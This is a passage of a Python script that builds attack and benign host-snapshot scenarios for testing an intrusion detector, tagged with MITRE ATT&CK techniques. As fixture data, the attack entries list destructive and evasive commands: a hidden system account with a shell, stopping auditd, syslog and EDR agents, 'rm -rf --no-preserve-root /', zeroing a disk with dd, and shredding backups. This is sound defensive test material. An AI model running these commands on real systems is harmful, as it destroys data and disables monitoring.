           users=[user("backup2", 1002, ["backup2", "docker"])]),
    attack("account-hidden-system-uid", "account_manipulation", "T1136.001", "evasion", "proxmox-node",
           "a new system-looking account (uid 996) with a shell", "useradd -r -s /bin/bash systemd-coredump2",
           users=[user("systemd-coredump2", 996, ["systemd-coredump2"])]),
    # --- defence evasion ----------------------------------------------------------------
    attack("evasion-clamd-stopped", "defense_evasion", "T1562.001", "classic", "mail-server",
           "the antivirus daemon stops", "Atomic Red Team T1562.001", stop_processes=["clamd"]),
    attack("evasion-crowdsec-stopped", "defense_evasion", "T1562.001", "classic", "vps-nextcloud",
           "crowdsec stops", "Atomic Red Team T1562.001", stop_processes=["crowdsec"]),
    attack("evasion-rsyslogd-stopped", "defense_evasion", "T1562.001", "evasion", "ubuntu-web",
           "the syslog daemon stops (no log shipping from now on)", "Atomic Red Team T1562.001 (systemctl stop rsyslog)",
           stop_processes=["rsyslogd"]),
    attack("evasion-auditd-stopped", "defense_evasion", "T1562.012", "evasion", "ubuntu-web",
           "auditd stops", "Atomic Red Team T1562.012 (service auditd stop)",
           before={"processes": [proc(31400, "auditd", "root", "/usr/sbin/auditd", "/sbin/auditd")]},
           stop_processes=["auditd"]),
    attack("evasion-falcon-stopped", "defense_evasion", "T1562.001", "evasion", "docker-host",
           "CrowdStrike Falcon's sensor stops", "CrowdStrike Falcon for Linux (falcond, /opt/CrowdStrike)",
           before={"processes": [proc(31400, "falcond", "root", "/opt/CrowdStrike/falcond", "/opt/CrowdStrike/falcond")]},
           stop_processes=["falcond"]),
    attack("evasion-mdatp-stopped", "defense_evasion", "T1562.001", "evasion", "ubuntu-web",
           "Microsoft Defender for Endpoint's daemon stops", "Microsoft Defender for Endpoint on Linux (wdavdaemon)",
           before={"processes": [proc(31400, "wdavdaemon", "root", "/opt/microsoft/mdatp/sbin/wdavdaemon", "/opt/microsoft/mdatp/sbin/wdavdaemon")]},
           stop_processes=["wdavdaemon"]),
    attack("evasion-journald-stopped", "defense_evasion", "T1562.001", "evasion", "nas",
           "systemd-journald stops", "systemctl stop systemd-journald (+ mask)",
           stop_processes=["systemd-journald"]),
    # --- destructive --------------------------------------------------------------------
    attack("destructive-rm-rf-root", "destructive", "T1485", "classic", WEB,
           "rm -rf --no-preserve-root /", "Atomic Red Team T1485",
           processes=[proc(31337, "rm", "root", "/usr/bin/rm", "rm -rf --no-preserve-root /", 1226)]),
    attack("destructive-dd-disk", "destructive", "T1561.002", "evasion", "nas",
           "dd zeroing a disk", "Atomic Red Team T1561.002 (dd if=/dev/zero of=/dev/sdX)",
           processes=[proc(31337, "dd", "root", "/usr/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M")]),
    attack("destructive-shred-backups", "destructive", "T1485", "evasion", "proxmox-node",
           "shred over the backup store", "Atomic Red Team T1485 (shred)",
           processes=[proc(31337, "shred", "root", "/usr/bin/shred", "shred -n 3 -z -u /var/lib/vz/dump/vzdump-qemu-101.vma.zst")]),
]  # fmt: skip

# --- benign ---------------------------------------------------------------------------------

DEV = "dev-laptop"
BENIGN = [
    benign("dev-laptop-busy-day", "developer_laptop", DEV,
           "language servers, node dev servers on ephemeral loopback ports, docker with a published web port, a browser with many helpers",
           "modelled on `ps -ef` and `ss -tlnp` of Ubuntu 24.04 developer machines (VS Code, Chrome, Docker Desktop-less docker)",
           persist=4,
           processes=[
               proc(32001, "pyright-langser", "ada", "/home/ada/.vscode/extensions/ms-python.vscode-pylance/dist/server.bundle.js", "/usr/share/code/code /home/ada/.vscode/extensions/ms-python.vscode-pylance-2024.11.2/dist/server.bundle.js --cancellationReceive=file:4f9c --node-ipc --clientProcessId=2210"),
               proc(32002, "rust-analyzer", "ada", "/home/ada/.vscode/extensions/rust-lang.rust-analyzer-0.3.2196-linux-x64/server/rust-analyzer", "rust-analyzer"),
               proc(32003, "gopls", "ada", "/home/ada/go/bin/gopls", "/home/ada/go/bin/gopls -mode=stdio"),
               proc(32004, "node", "ada", "/home/ada/.nvm/versions/node/v22.11.0/bin/node", "node /home/ada/src/web/node_modules/.bin/next dev"),
               proc(32005, "esbuild", "ada", "/home/ada/src/web/node_modules/@esbuild/linux-x64/bin/esbuild", "esbuild --service=0.21.5 --ping"),
               proc(32006, "dockerd", "root", "/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"),
               proc(32007, "containerd", "root", "/usr/bin/containerd", "/usr/bin/containerd"),
               proc(32008, "containerd-shim", "root", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 5d1c0a7f -address /run/containerd/containerd.sock"),
               proc(32009, "docker-proxy", "root", "/usr/bin/docker-proxy", "/usr/bin/docker-proxy -proto tcp -host-ip 0.0.0.0 -host-port 8080 -container-ip 172.17.0.2 -container-port 80"),
               proc(32010, "nginx", "root", "/usr/sbin/nginx", "nginx: master process nginx -g daemon off;", 32008),
               proc(32011, "chrome", "ada", "/opt/google/chrome/chrome", "/opt/google/chrome/chrome"),
               *[proc(32020 + i, "chrome", "ada", "/opt/google/chrome/chrome", f"/opt/google/chrome/chrome --type={t}", 32011)
                 for i, t in enumerate(["zygote", "gpu-process", "utility --utility-sub-type=network.mojom.NetworkService", "renderer", "renderer", "renderer", "renderer", "renderer"])],
               proc(32030, "chrome_crashpad", "ada", "/opt/google/chrome/chrome_crashpad_handler", "/opt/google/chrome/chrome_crashpad_handler --monitor-self-annotation=ptype=crashpad-handler"),
               proc(32031, "slack", "ada", "/snap/slack/160/usr/lib/slack/slack", "/snap/slack/160/usr/lib/slack/slack --type=renderer"),
               proc(32032, "python3", "ada", "/usr/bin/python3.12", "python3 -m pytest -x -q tests/"),
               proc(32033, "git", "ada", "/usr/bin/git", "git fetch --all --prune"),
               proc(32034, "ssh", "ada", "/usr/bin/ssh", "/usr/bin/ssh git@github.com git-upload-pack 'ada/shop.git'", 32033),
           ],
           listening_ports=[listen(3000, "node", 32004, "127.0.0.1"), listen(41327, "node", 32004, "127.0.0.1"),
                            listen(45811, "esbuild", 32005, "127.0.0.1"), listen(8080, "docker-proxy", 32009),
                            listen(39167, "code", 0, "127.0.0.1"), listen(43215, "chrome", 32011, "127.0.0.1")],
           connections=[conn("chrome", "142.250.185.78", 443), conn("chrome", "151.101.1.69", 443),
                        conn("slack", "3.64.100.20", 443), conn("ssh", "140.82.121.3", 22),
                        conn("node", "127.0.0.1", 5432), conn("code", "127.0.0.1", 39167)]),
    benign("cron-daily-run", "cron", WEB,
           "cron.daily: run-parts, logrotate, man-db, dpkg's backup of its database",
           "Debian/Ubuntu /etc/cron.daily as shipped",
           processes=[proc(32101, "cron", "root", "/usr/sbin/cron", "/usr/sbin/CRON -f -P", 608),
                      proc(32102, "sh", "root", "/usr/bin/dash", "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", 32101),
                      proc(32103, "run-parts", "root", "/usr/bin/run-parts", "run-parts --report /etc/cron.daily", 32102),
                      proc(32104, "logrotate", "root", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", 32103),
                      proc(32105, "man-db", "root", "/usr/bin/dash", "/bin/sh /etc/cron.daily/man-db", 32103),
                      proc(32106, "mandb", "man", "/usr/bin/mandb", "/usr/bin/mandb --quiet", 32105),
                      proc(32107, "gzip", "root", "/usr/bin/gzip", "gzip -9", 32104)]),
    benign("certbot-and-backup", "cron", WEB,
           "a systemd-timer certbot renewal (talks to Let's Encrypt) and a nightly restic backup over SFTP",
           "certbot.timer and restic documentation",
           processes=[proc(32201, "certbot", "root", "/usr/bin/python3.12", "/usr/bin/python3 /usr/bin/certbot -q renew"),
                      proc(32202, "restic", "root", "/usr/bin/restic", "restic -r sftp:backup@192.168.1.10:/srv/restic backup /etc /var/www --exclude-caches"),
                      proc(32203, "ssh", "root", "/usr/bin/ssh", "ssh backup@192.168.1.10 -s sftp", 32202)],
           connections=[conn("certbot", "172.65.32.248", 443), conn("ssh", "192.168.1.10", 22)]),
    benign("apt-upgrade-nginx-postgres", "package_upgrade", WEB,
           "unattended-upgrades installs nginx and postgres updates: dpkg, maintainer scripts, service restarts",
           "dpkg's process tree during `apt-get upgrade` (postinst scripts run by dash as the script's name)",
           processes=[proc(32301, "apt-get", "root", "/usr/bin/apt-get", "apt-get -y upgrade", 974),
                      proc(32302, "http", "_apt", "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", 32301),
                      proc(32303, "dpkg", "root", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 31 --configure --pending", 32301),
                      proc(32304, "nginx.postinst", "root", "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure 1.24.0-2ubuntu7.1", 32303),
                      proc(32305, "systemctl", "root", "/usr/bin/systemctl", "systemctl restart nginx.service", 32304),
                      proc(32306, "deb-systemd-invoke", "root", "/usr/bin/perl", "/usr/bin/perl /usr/bin/deb-systemd-invoke restart postgresql.service", 32303),
                      proc(32307, "ldconfig", "root", "/usr/sbin/ldconfig", "/sbin/ldconfig", 32303),
                      proc(32308, "needrestart", "root", "/usr/bin/perl", "/usr/bin/perl /usr/sbin/needrestart -u NeedRestart::UI::Debconf -b", 32301)],
           connections=[conn("http", "91.189.91.82", 80)]),
    benign("pip-install-and-tests", "admin_work", "docker-host",
           "an admin builds a venv, pip installs from PyPI, runs the test suite with a loopback test server",
           "pip and pytest as run by hand",
           processes=[proc(32401, "pip", "root", "/usr/bin/python3.11", "/opt/app/.venv/bin/python -m pip install -r requirements.txt"),
                      proc(32402, "python", "root", "/usr/bin/python3.11", "/opt/app/.venv/bin/python -m pytest -q"),
                      proc(32403, "python", "root", "/usr/bin/python3.11", "/opt/app/.venv/bin/python -m uvicorn app:app --port 0", 32402)],
           listening_ports=[listen(37813, "python", 32403, "127.0.0.1")],
           connections=[conn("pip", "151.101.0.223", 443), conn("python", "127.0.0.1", 37813)]),
]  # fmt: skip


def main() -> None:
    for sub, scenarios in (("attacks", ATTACKS), ("benign", BENIGN)):
        (OUT / sub).mkdir(parents=True, exist_ok=True)
        for sc in scenarios:
            path = OUT / sub / f"{sc['id']}.json"
            path.write_text(json.dumps(sc, indent=1) + "\n")
        print(f"wrote {len(scenarios)} scenarios to {OUT / sub}")


if __name__ == "__main__":
    main()
